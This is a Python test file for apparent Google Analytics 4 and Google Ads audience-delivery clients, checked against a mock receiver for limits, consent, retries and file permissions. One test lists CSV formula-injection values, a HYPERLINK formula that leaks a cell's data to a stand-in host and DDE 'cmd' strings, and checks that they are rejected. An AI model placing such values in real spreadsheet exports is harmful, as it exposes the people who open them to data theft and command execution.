"""
Google's formats, specified against a receiver that enforces the documented limits.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
from datetime import timedelta

import pytest

from local.receiver import Faults
from offline.audience.delivery import Streak, as_taken, rejected_of
from offline.audience.destinations.ga4 import ImportFile, MeasurementProtocol
from offline.audience.destinations.google_ads import CustomerMatch
from offline.audience.selection import Member
from propensity.errors import RequestError, Unavailable
from tests.offline.audience.google_receiver import GoogleReceiver
from tests.offline.audience.people import (
    CHOSEN,
    VARIABLES,
    contact,
    contacts_of,
    deliver,
    poster,
    request_of,
)


def analytics(receiver, *, later=timedelta(0), audience="winback", **changed):
    template = {
        "kind": "ga4",
        "name": "analytics",
        "measurement_id": "G-1",
        "api_secret": "${SECRET}",
        "url": receiver.url + "/mp/collect",
    }
    return MeasurementProtocol(
        template | changed,
        audience=audience,
        poster=poster,
        now=lambda: CHOSEN + later,
        variables=VARIABLES,
    )


class TestMeasurementProtocol:
    def test_gives_a_user_a_property_within_all_limits(self):
        with GoogleReceiver(now=CHOSEN + timedelta(hours=1)) as receiver:
            client = analytics(receiver)
            assert client.send(request_of("1.2")) == {}
            client.send(request_of("3.4"))
            client.send(request_of("3.4", action="remove"))

        assert receiver.dropped == {}
        assert receiver.properties == {
            "1.2": {"winback": "in"},
            "3.4": {"winback": "out"},
        }

    def test_that_is_sent_again_is_the_same(self):
        with GoogleReceiver(
            Faults(lost=0.4, unavailable=0.2, seed=2), now=CHOSEN
        ) as receiver:
            users = [f"{n}.0" for n in range(20)]
            for user in users * 2:
                later = timedelta(hours=70 * (user in receiver.properties))
                analytics(receiver, later=later).send(request_of(user))

        assert receiver.taken.requests > 40
        assert len(receiver.events) == 20

    def test_is_sent_for_72_hours(self):
        with GoogleReceiver(now=CHOSEN + timedelta(hours=72)) as receiver:
            analytics(receiver, later=timedelta(hours=72)).send(request_of("1.2"))
            with pytest.raises(RequestError, match="72 hours"):
                analytics(receiver, later=timedelta(hours=72, seconds=1)).send(
                    request_of("3.4")
                )

        assert receiver.dropped == {}
        assert receiver.properties.keys() == {"1.2"}

    def test_says_what_users_have_consented_to(self):
        with GoogleReceiver(now=CHOSEN) as receiver:
            analytics(receiver, consent="DENIED").send(request_of("1.2"))

        [event] = map(json.loads, receiver.events)
        assert event["consent"]["ad_user_data"] == "DENIED"

    def test_rejects_what_is_no_client_id(self):
        with GoogleReceiver() as receiver:
            problems = analytics(receiver).problems(
                "add", [Member("1.2"), Member(""), Member("a b")]
            )

        assert problems.keys() == {"", "a b"}

    @pytest.mark.parametrize(
        ("changed", "field"),
        [
            ({"event": "ga_audience"}, "event"),
            ({"event": "e" * 41}, "event"),
            ({"event": "first_visit"}, "event"),
            ({"property": "p" * 25}, "property"),
            ({"property": "user_id"}, "property"),
            ({"audience": "a" * 25}, "property"),
            ({"url": "http://example.com/mp/collect"}, "url"),
            ({"consent": "yes"}, "consent"),
            ({"measurement_id": ""}, "measurement_id"),
            ({"measurement_id": "UA-1-1"}, "measurement_id"),
            ({"measurement_id": "G-1 "}, "measurement_id"),
            ({"colour": "blue"}, "colour"),
            ({"rate": -1}, "rate"),
            ({"at_once": 0}, "at_once"),
            ({"name": "bucket"}, "name"),
        ],
    )
    def test_is_refused_by_its_field(self, changed, field):
        with GoogleReceiver() as receiver, pytest.raises(RequestError) as raised:
            analytics(receiver, **changed)

        assert raised.value.field == field


def test_variables_stand_in_any_text():
    """Analytics takes what is sent to no stream, and nothing arrives."""
    mine = {"SECRET": "s", "TOKEN": "t", "STREAM": "G-7", "PROPERTY": "vip", "ID": "5"}
    with GoogleReceiver(now=CHOSEN) as receiver:
        address = {"url": receiver.url + "/mp/collect"}
        client = MeasurementProtocol(
            {"name": "analytics", "measurement_id": "${STREAM}", "api_secret": "s"}
            | {"property": "${PROPERTY}", **address},
            audience="winback",
            poster=poster,
            now=lambda: CHOSEN,
            variables=mine,
        )
        client.send(request_of("1.2"))

    assert receiver.properties == {"1.2": {"vip": "in"}}
    ids = {"customer_id": "${ID}", "user_list": "${ID}"}
    tokens = {"developer_token": "${TOKEN}", "access_token": "${TOKEN}"}
    CustomerMatch(
        {"name": "ads", **ids, **tokens},
        poster=poster,
        contacts=contacts_of(),
        variables=mine,
    )


def import_file(folder, **changed):
    path = str(folder / "winback.csv")
    template = {"name": "file", "stream_id": "77", "path": path}
    return ImportFile(template | changed, audience="winback")


@pytest.mark.parametrize(
    ("changed", "field"),
    [
        ({"path": "/no/such/folder/winback.csv"}, "path"),
        ({"path": "/"}, "path"),
        ({"stream_id": "G-1,2"}, "stream_id"),
    ],
)
def test_an_import_file_is_refused_before_anybody_is_chosen(tmp_path, changed, field):
    with pytest.raises(RequestError) as raised:
        import_file(tmp_path, **changed)

    assert raised.value.field == field


def test_an_import_file_has_each_user_once(tmp_path):
    client = import_file(tmp_path)

    client.send(request_of("1.2", "3.4"))
    client.send(request_of("1.2", "3.4"))

    [file] = tmp_path.iterdir()
    assert file.name.startswith("winback-2026-03-02-in-")
    assert list(csv.reader(file.read_text().splitlines())) == [
        ["client_id", "stream_id", "winback"],
        ["1.2", "77", "in"],
        ["3.4", "77", "in"],
    ]


def test_an_import_file_has_no_formula(tmp_path):
    """Whoever visits a site names the browser as they like, and a person may open the
    file. Base64 may begin with a sign, and nothing comes of it."""
    harmful = [
        '=HYPERLINK("https://a.example/?"&B2)',
        "=cmd|'/c'!A0",
        "+IMPORTXML(A1)",
        "-1+cmd|'/c'!A0",
        "@SUM(1)",
    ]
    harmless = ["1.2", "+ab/c=.16", "-ab_c.16", "=.1", "GA1.2", "(1)"]
    client = import_file(tmp_path)

    problems = client.problems("add", [Member(user) for user in harmful + harmless])

    assert [*problems] == harmful


def test_an_import_file_is_its_owners(tmp_path):
    """It holds ids: nobody else on the machine reads it, however the mask is set."""
    before = os.umask(0)
    try:
        import_file(tmp_path).send(request_of("1.2"))
    finally:
        os.umask(before)

    [file] = tmp_path.iterdir()
    assert file.stat().st_mode & 0o777 == 0o600


def test_an_import_file_of_its_own_has_who_has_left(tmp_path):
    """An import leaves users as they are who are not in it."""
    client = import_file(tmp_path)

    client.send(request_of("1.2", action="remove"))

    assert "remove" in client.actions
    [file] = tmp_path.iterdir()
    assert file.name.startswith("winback-2026-03-02-out-")
    assert file.read_text() == "client_id,stream_id,winback\n1.2,77,out\n"


def ads(receiver, *contacts, **changed):
    template = {
        "kind": "google-ads",
        "name": "ads",
        "customer_id": "123",
        "user_list": "9",
        "developer_token": "${TOKEN}",
        "access_token": "${TOKEN}",
        "url": receiver.url + "/v26",
    }
    return CustomerMatch(
        template | changed,
        poster=poster,
        contacts=contacts_of(*contacts),
        variables=VARIABLES,
    )


class TestCustomerMatch:
    def test_adds_and_removes_in_jobs_of_their_own(self):
        contacts = [contact(user, email=f"{user}@a.io") for user in ("a", "b")]
        with GoogleReceiver() as receiver:
            client = ads(receiver, *contacts)
            assert deliver(client, request_of("a", "b")) == {}
            assert deliver(client, request_of("b", action="remove")) == {}

        kinds = [
            {kind for kind, _ in job["operations"]} for job in receiver.jobs.values()
        ]
        assert kinds == [{"create"}, {"remove"}]
        assert len(receiver.listed) == 1

    def test_that_is_sent_again_leaves_the_list_as_it_is(self):
        with GoogleReceiver(Faults(lost=0.3, seed=3)) as receiver:
            client = ads(receiver, contact("a", email="a@a.io"))
            for _ in range(3):
                deliver(client, request_of("a"))

        assert len(receiver.listed) == 1

    def test_rejects_who_cannot_be_known_or_has_not_consented(self):
        contacts = [
            contact("a", email="a@a.io", has_ads_consent=False),
            contact("b", email="no address"),
            contact("c", email="c@a.io", has_ads_consent=None),
            contact("e", email="e@a.io", has_ads_consent="false"),
        ]
        with GoogleReceiver() as receiver:
            rejected = deliver(ads(receiver, *contacts), request_of(*"abcde"))

        assert rejected == {
            "a": "no consent to ads",
            "b": "no email, phone or address",
            "c": "no consent to ads",
            "d": "no contact",
            "e": "no consent to ads",
        }
        assert receiver.jobs == {}

    def test_knows_a_user_by_all_rows_and_takes_the_strictest_consent(self):
        contacts = [
            contact("a", email="a@a.io"),
            contact("a", email="A@a.io", phone="+442079460011"),
            contact("b", email="b@a.io"),
            contact("b", email="b@b.io", has_ads_consent=False),
        ]

        class Counting(GoogleReceiver):
            def _fill(self, job, operations):
                [operation] = operations
                self.sent = operation["create"]["userIdentifiers"]
                return super()._fill(job, operations)

        with Counting() as receiver:
            rejected = deliver(ads(receiver, *contacts), request_of("a", "b"))

        assert rejected == {"b": "no consent to ads"}
        assert [set(body) for body in receiver.sent] == [
            {"hashedEmail"},
            {"hashedPhoneNumber"},
        ]

    def test_removes_who_has_taken_consent_back(self):
        gone = contact("a", email="a@a.io", has_ads_consent=False)
        with GoogleReceiver() as receiver:
            assert deliver(ads(receiver, gone), request_of("a", action="remove")) == {}

    @pytest.mark.parametrize(
        "answered",
        [
            b"<html>a gateway</html>",
            {"partialFailureError": "none"},
            {"partialFailureError": {"details": None}},
            {"partialFailureError": {"details": [{"errors": [{"location": None}]}]}},
        ],
    )
    def test_of_an_answer_that_cannot_be_read_nobody_is_accepted(self, answered):
        """And nothing was run."""

        class Odd(GoogleReceiver):
            def _fill(self, job, operations):
                return 200, {}, answered

        with Odd() as receiver, pytest.raises(Unavailable):
            deliver(ads(receiver, contact("a", email="a@a.io")), request_of("a"))

        assert not any(job["is_run"] for job in receiver.jobs.values())

    def test_has_the_reason_of_each_who_is_refused(self):
        contacts = [contact(user, phone=f"+4420794600{user}") for user in ("11", "12")]
        bad = hashlib.sha256(b"+442079460012").hexdigest()
        faults = Faults(rejects=lambda key: "TOO_LOW" if bad in key else "")
        with GoogleReceiver(faults) as receiver:
            assert deliver(ads(receiver, *contacts), request_of("11", "12")) == {
                "12": "TOO_LOW"
            }

        assert len(receiver.listed) == 1

    @pytest.mark.parametrize(
        "failure",
        [{"message": "INTERNAL"}, {"details": [{"errors": [{"message": "INTERNAL"}]}]}],
    )
    def test_has_nobody_accepted_of_a_refusal_without_a_user(self, failure):
        class Failing(GoogleReceiver):
            def _fill(self, job, operations):
                return 200, {}, {"partialFailureError": failure}

        with Failing() as receiver:
            client = ads(receiver, *[contact(user, email="a@a.io") for user in "ab"])
            client.problems("add", request_of(*"ab").members)
            parts = as_taken(request_of(*"ab"), client, Streak("ads"))

        assert rejected_of(parts) == {"a": "INTERNAL", "b": "INTERNAL"}
        assert not any(job["is_run"] for job in receiver.jobs.values())
